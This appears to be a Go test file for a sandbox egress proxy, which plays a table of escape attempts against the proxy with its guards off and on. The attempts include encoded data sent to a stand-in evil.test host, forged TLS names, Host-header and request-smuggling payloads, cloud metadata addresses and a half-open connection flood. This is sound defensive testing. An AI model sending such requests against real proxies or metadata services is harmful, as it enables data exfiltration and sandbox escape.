package egress_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/deskhand/deskhand"
	"github.com/deskhand/deskhand/sandbox/egress"
)

// serveOn runs a proxy on l until the test ends.
func serveOn(t *testing.T, n *internet, c egress.Config, l net.Listener, entries ...string) *egress.Proxy {
	t.Helper()
	if c.Judge == nil {
		rules, err := egress.NewRules(nil, entries...)
		if err != nil {
			t.Fatal(err)
		}
		c.Judge = rules
	}
	c.Resolver, c.Own = n, own
	p, err := egress.New(c)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	ended := make(chan error, 1)
	go func() { ended <- p.Serve(ctx, l) }()
	t.Cleanup(func() {
		cancel()
		if err := <-ended; err != nil {
			t.Error(err)
		}
	})
	return p
}

// judged waits for the next record that is no permission.
func judged(t *testing.T, p *egress.Proxy) deskhand.NetworkJudged {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	for {
		all, err := p.Judged(ctx)
		for _, j := range all {
			if !j.Allowed {
				return j
			}
		}
		if err != nil {
			t.Fatalf("nothing was recorded: %v", err)
		}
	}
}

// say sends text to a proxy and returns what it answered until it ended.
func say(t *testing.T, proxy, text string) string {
	t.Helper()
	c, err := net.DialTimeout("tcp", proxy, patience)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	_, _ = io.WriteString(c, text)
	out, _ := io.ReadAll(c)
	return string(out)
}

// tunnel asks for a tunnel, says text in it and returns all that was answered.
func tunnel(t *testing.T, proxy, to, text string) string {
	t.Helper()
	return say(t, proxy, "CONNECT "+to+" HTTP/1.1\r\nHost: "+to+"\r\n\r\n"+text)
}

const established = "HTTP/1.1 200 Connection established\r\n\r\n"

func get(url, host string) string { return "GET " + url + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n" }

// attack is one way out that must be closed: what is sent, and what is said of
// it.
type attack struct {
	name   string
	to     string // CONNECT to this, then say text; empty: say text
	text   string
	listed string // what the naive proxy looks for; default raw.test
	status string // how the answer begins
	rule   string // the guard that refuses
	reason string // a part of why
}

func attacks() []attack {
	const alert = "\x15\x03\x03\x00\x02\x02\x31" // access denied
	hello := string(egress.Forge("evil.test"))
	all := []attack{
		{"N4 a name that is not listed", "", get("http://c2VjcmV0.evil.test/", "c2VjcmV0.evil.test"), "", "HTTP/1.1 403", "list", "not on the list"},
		{"N5 TLS for another host", "raw.test:443", hello, "", alert, "tls-name", "names another host"},
		{"N5 TLS without a name", "raw.test:443", string(egress.Forge()), "", alert, "tls-name", "names no host"},
		{"N5 TLS with two names", "raw.test:443", string(egress.Forge("raw.test", "evil.test")), "", alert, "tls-name", "cannot be read"},
		{"N5 TLS in two records", "raw.test:443", string(egress.Split(egress.Forge("raw.test"))), "", alert, "tls-name", "cannot be read"},
		{"N5 no TLS on 443", "raw.test:443", get("/", "raw.test"), "", "", "tls-name", "neither TLS nor HTTP"},
		{"N5 SSH on 80", "raw.test:80", "\x00SSH-2.0-x\r\n", "", "", "tls-name", "neither TLS nor HTTP"},
		{"N6 another Host", "", get("http://raw.test/", "evil.test"), "", "HTTP/1.1 421", "host-header", "names another host"},
		{"N6 another Host in a tunnel", "raw.test:80", get("/", "evil.test"), "", "HTTP/1.1 421", "host-header", "names another host"},
		{"N6 two Hosts", "", "GET http://raw.test/ HTTP/1.1\r\nHost: raw.test\r\nHost: evil.test\r\n\r\n", "", "HTTP/1.1 400", "request", "malformed"},
		{"N7 two lengths", "", "POST http://raw.test/ HTTP/1.1\r\nHost: raw.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "", "HTTP/1.1 400", "request", "malformed"},
		{"N7 a line end in the authority", "", "GET http://raw.test\r\nX: y/ HTTP/1.1\r\nHost: raw.test\r\n\r\n", "", "HTTP/1.1 400", "request", "malformed"},
		{"N7 a bare line feed", "", "GET http://raw.test/ HTTP/1.1\nHost: evil.test\n\r\n\r\n", "", "HTTP/1.1 400", "request", "malformed"},
		{"N7 absolute form in a tunnel", "raw.test:80", get("http://evil.test/", "evil.test"), "", "HTTP/1.1 400", "request", "malformed"},
		{"N11 listed.evil", "", get("http://raw.test.evil.test/", "raw.test.evil.test"), "", "HTTP/1.1 403", "list", "not on the list"},
		{"N11 evillisted", "evilraw.test:443", string(egress.Forge("evilraw.test")), "", "HTTP/1.1 403", "list", "not on the list"},
		{"N11 below listed", "", get("http://www.raw.test/", "www.raw.test"), "", "HTTP/1.1 403", "list", "not on the list"},
		{"N11 listed@evil", "raw.test@evil.test:443", hello, "", "HTTP/1.1 400", "request", "malformed"},
		{"N11 listed@evil, plain", "", get("http://raw.test@evil.test/", "raw.test@evil.test"), "", "HTTP/1.1 400", "request", "malformed"},
		{"N11 evil#listed", "", get("http://evil.test#raw.test/", "evil.test#raw.test"), "", "HTTP/1.1 400", "request", "malformed"},
		{"N11 evil NUL listed", "evil.test\x00.raw.test:443", hello, "", "HTTP/1.1 400", "request", "malformed"},
		{"N15 metadata by number", "", get("http://169.254.169.254/latest", "169.254.169.254"), "169", "HTTP/1.1 403", "list", "not on the list"},
		{"N15 metadata by number, IPv6", "[fd00:ec2::254]:80", get("/", "[fd00:ec2::254]"), "fd00", "HTTP/1.1 403", "list", "not on the list"},
		{"N15 metadata, Alibaba", "", get("http://100.100.100.200/", "100.100.100.200"), "100.", "HTTP/1.1 403", "list", "not on the list"},
		{"N16 a host with AAAA only", "evil6.test:443", hello, "evil6", "HTTP/1.1 403", "list", "not on the list"},
		{"N23 the model's API", "api.anthropic.com:443", string(egress.Forge("api.anthropic.com")), "anthropic", "HTTP/1.1 403", "model-api", "cannot be reached from inside"},
	}
	for port, text := range map[string]string{"22": "SSH-2.0-x\r\n", "25": "EHLO x\r\n", "3306": "\x00\x00\x00x"} {
		all = append(all, attack{"N14 port " + port, "raw.test:" + port, text, "", "HTTP/1.1 403", "list", "not on the list"})
	}
	for name, kind := range map[string]string{
		"loop": "a loopback address", "meta": "a cloud's metadata address", "meta6": "a cloud's metadata address", "ali": "a cloud's metadata address", "azure": "a cloud's metadata address",
		"lan": "a private address", "cgn": "a private address", "own": "an address of this machine", "mapped": "a private address",
	} {
		host := name + ".test"
		all = append(all, attack{"N9 " + host, "", get("http://"+host+"/", host), host, "HTTP/1.1 403", "address", "leads to " + kind})
	}
	return all
}

// TestAttackProxy plays each attack on a proxy with its guards off, where
// bytes must arrive, and on, where none may.
func TestAttackProxy(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	entries := []string{"raw.test", "allowed.test", "*.anthropic.com"}
	for _, name := range []string{"loop", "meta", "meta6", "ali", "azure", "lan", "cgn", "own", "mapped"} {
		entries = append(entries, name+".test")
	}
	for _, a := range attacks() {
		play := func(proxy string) string {
			if a.to != "" {
				return tunnel(t, proxy, a.to, a.text)
			}
			return say(t, proxy, a.text)
		}
		if a.listed == "" {
			a.listed = "raw.test"
			if strings.HasPrefix(a.name, "N4") {
				a.listed = "evil.test"
			}
		}
		play(naive(t, n, a.listed))
		asked := n.asked.Swap(0)
		off := arrived(n)
		if strings.HasPrefix(a.name, "N4") { // what counts is that nobody is asked
			off = asked
		}
		p, proxy := guarded(t, n, egress.Config{}, entries...)
		answer := play(proxy)
		j := judged(t, p)
		on, from := n.drain()
		on += n.asked.Swap(0)
		row(t, a.name, off, on)
		if off == 0 {
			t.Errorf("%s: nothing arrives without the guard: the attack is not real", a.name)
		}
		if on != 0 {
			t.Errorf("%s: arrived: %q", a.name, from)
		}
		if a.to != "" { // what is said in the tunnel
			answer = strings.TrimPrefix(answer, established)
		}
		if !strings.HasPrefix(answer, a.status) || j.Rule != a.rule || !strings.Contains(j.Reason, a.reason) || j.Count != 1 {
			t.Errorf("%s: answer %.60q, record %+v", a.name, answer, j)
		}
		for _, secret := range []string{"198.51.", "127.0.", "10.0.", "fd00", "192.0.2"} {
			if !strings.Contains(a.to+a.text, secret) && (strings.Contains(answer, secret) || strings.Contains(egress.Sentence(j), secret)) {
				t.Errorf("%s: an address is told: %q", a.name, answer)
			}
		}
	}
	if left, from := n.drain(); left != 0 {
		t.Errorf("late: %q", from)
	}
}

// row prints one line of the table of attacks.
func row(t *testing.T, name string, off, on int64) {
	t.Logf("attack\t%-40s\twithout guard %6d bytes\twith guard %d", name, off, on)
}

// arrived waits for a byte at a sink, a while.
func arrived(n *internet) int64 {
	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); {
		if got, _ := n.drain(); got > 0 {
			return got
		}
	}
	return 0
}

// TestAttackEmptyList is N12: nothing listed, nothing reached.
func TestAttackEmptyList(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	say(t, naive(t, n, ""), get("http://raw.test/", "raw.test"))
	off := arrived(n)
	p, proxy := guarded(t, n, egress.Config{})
	for _, to := range []string{"raw.test", "evil.test", "localhost", "127.0.0.1", "169.254.169.254"} {
		if answer := say(t, proxy, get("http://"+to+"/", to)); !strings.HasPrefix(answer, "HTTP/1.1 403") {
			t.Errorf("%s: %q", to, answer)
		}
		if j := judged(t, p); j.Host != to || j.Rule != "list" {
			t.Errorf("%+v", j)
		}
	}
	on, from := n.drain()
	row(t, "N12 an empty list", off, on)
	if off == 0 || on != 0 || n.asked.Load() != 0 {
		t.Errorf("without %d, with %d: %q", off, on, from)
	}
}

// How many requests are begun and not ended. Without the guard each of them
// takes two descriptors of this process for good, of which it may have 20,000 on some machines.
const (
	halfOpen        = 10_000
	halfOpenWithout = 4_000
)

// counting counts the connections that were read from and are open at once. One that is
// closed unread was never let in.
type counting struct {
	net.Listener
	now, most *atomic.Int64
}

func (l counting) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	return &countedConn{Conn: c, l: l}, err
}

type countedConn struct {
	net.Conn
	l    counting
	read sync.Once
	open atomic.Bool
}

func (c *countedConn) Read(b []byte) (int, error) {
	c.read.Do(func() {
		c.open.Store(true)
		now := c.l.now.Add(1)
		for most := c.l.most.Load(); now > most && !c.l.most.CompareAndSwap(most, now); most = c.l.most.Load() {
		}
	})
	return c.Conn.Read(b)
}

func (c *countedConn) Close() error {
	if c.open.CompareAndSwap(true, false) {
		c.l.now.Add(-1)
	}
	return c.Conn.Close()
}

// TestAttackCaps is N25: what a sandbox does to its proxy stays within bounds,
// and another task's proxy does not notice.
func TestAttackCaps(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	limits := egress.Limits{Conns: 20, HeadTime: 300 * time.Millisecond, HelloTime: 300 * time.Millisecond, Header: 8 << 10, HostBytes: 1 << 20}
	var nowOpen, mostOpen atomic.Int64
	judge, err := egress.NewRules(nil, "allowed.test", "raw.test")
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	p, proxy := serveOn(t, n, egress.Config{Limits: limits, Judge: judge}, counting{l, &nowOpen, &mostOpen}), l.Addr().String()
	_, other := guarded(t, n, egress.Config{}, "allowed.test")
	half := func(proxy string, many int) (open []net.Conn) {
		for range many {
			c, err := net.DialTimeout("tcp", proxy, patience)
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { _ = c.Close() })
			_, _ = io.WriteString(c, "CONNECT raw.test:443 HTTP/1.1\r\n") // and no more
			open = append(open, c)
		}
		return open
	}
	careless := half(naive(t, n, "raw.test"), halfOpenWithout)
	without := 0
	for _, c := range careless { // the last ones have been accepted by the time that the first ones were looked at
		_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
		if _, err := c.Read(make([]byte, 1)); errors.Is(err, os.ErrDeadlineExceeded) {
			without++
		}
		_ = c.Close()
	}
	open := half(proxy, halfOpen)
	if answer := say(t, other, get("http://allowed.test/", "allowed.test")); !strings.Contains(answer, "welcome to allowed.test") {
		t.Errorf("another task: %q", answer)
	}
	if j := judged(t, p); j.Rule != "limit" || !strings.Contains(j.Reason, "too many connections") {
		t.Errorf("%+v", j)
	}
	for _, c := range open { // every one is ended
		_ = c.SetReadDeadline(time.Now().Add(patience))
		if _, err := io.ReadAll(c); err != nil && strings.Contains(err.Error(), "timeout") {
			t.Fatal("a half-open request stays open")
		}
	}
	most := mostOpen.Load()
	t.Logf("attack\t%-40s\twithout guard %6d of %d stay open\twith guard %d of %d at once, then 0", "N25 half-open requests", without, halfOpenWithout, most, halfOpen)
	if without < halfOpenWithout*9/10 || most > int64(limits.Conns) {
		t.Errorf("%d stay open without the guard, %d are open at once with it", without, most)
	}
	if answer := say(t, proxy, "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX: "+strings.Repeat("x", 1<<20)+"\r\n\r\n"); answer != "" && !strings.HasPrefix(answer, "HTTP/1.1 431") {
		t.Errorf("a long head: %q", answer)
	}
	c, err := net.DialTimeout("tcp", proxy, patience)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_, _ = io.WriteString(c, "CONNECT raw.test:443 HTTP/1.1\r\nHost: raw.test\r\n\r\n")
	_ = c.SetReadDeadline(time.Now().Add(patience))
	if out, err := io.ReadAll(c); err != nil || !strings.HasPrefix(string(out), "HTTP/1.1 200") {
		t.Errorf("a silent tunnel: %q, %v", out, err)
	}
	for i := 0; ; i++ { // 8 MB at a time, of 1 MB that are left
		answer := say(t, proxy, get("http://allowed.test/big", "allowed.test"))
		if strings.HasPrefix(answer, "HTTP/1.1 403") {
			break
		}
		if i > 2 || len(answer) > 2<<20 {
			t.Fatalf("%d bytes, request %d", len(answer), i)
		}
	}
	if got, from := n.drain(); got != 0 {
		t.Errorf("arrived: %q", from)
	}
}

// TestCredential is what a proxy that others can reach asks for.
func TestCredential(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	p, proxy := guarded(t, n, egress.Config{Credential: "s3cret"}, "raw.test", "allowed.test")
	for _, line := range []string{"", "Proxy-Authorization: Basic OnMzY3JldHg=\r\n", "Proxy-Authorization: Bearer s3cret\r\n", "Proxy-Authorization: Basic Og==\r\n", "Proxy-Authorization: Basic\r\n", "Proxy-Authorization: Basic OnMzY3JldA==\r\nProxy-Authorization: Basic OnMzY3JldA==\r\n"} {
		answer := say(t, proxy, "GET http://raw.test/ HTTP/1.1\r\nHost: raw.test\r\n"+line+"\r\n")
		if !strings.HasPrefix(answer, "HTTP/1.1 407") || !strings.Contains(answer, "Proxy-Authenticate: Basic") {
			t.Errorf("%q: %q", line, answer)
		}
	}
	if j := judged(t, p); j.Rule != "credential" || j.Host != "" {
		t.Errorf("%+v", j)
	}
	if got, from := n.drain(); got != 0 {
		t.Errorf("arrived: %q", from)
	}
	if answer := say(t, proxy, "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nProxy-Authorization: Basic OnMzY3JldA==\r\n\r\n"); !strings.Contains(answer, "welcome") {
		t.Errorf("with it: %q", answer)
	}
}

// TestCoalesced checks that a thousand equal refusals are two records, and
// that invented hosts without end do not fill the journal.
func TestCoalesced(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	p, proxy := guarded(t, n, egress.Config{})
	for range 50 {
		say(t, proxy, get("http://evil.test/", "evil.test"))
	}
	for i := range 600 {
		say(t, proxy, get(fmt.Sprintf("http://h%d.test/", i), fmt.Sprintf("h%d.test", i)))
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	var all []deskhand.NetworkJudged
	sum := 0
	for {
		some, err := p.Judged(ctx)
		all = append(all, some...)
		if err != nil {
			break
		}
	}
	for _, j := range all {
		sum += j.Count
	}
	if len(all) > 510 || sum != 650 || all[0].Host != "evil.test" || all[0].Count != 50 {
		t.Errorf("%d records of %d refusals; the first is %+v", len(all), sum, all[0])
	}
	if text := egress.Sentence(all[0]); text != "The network refused a connection to evil.test:80 50 times: it is not on the list of allowed hosts." {
		t.Error(text)
	}
}
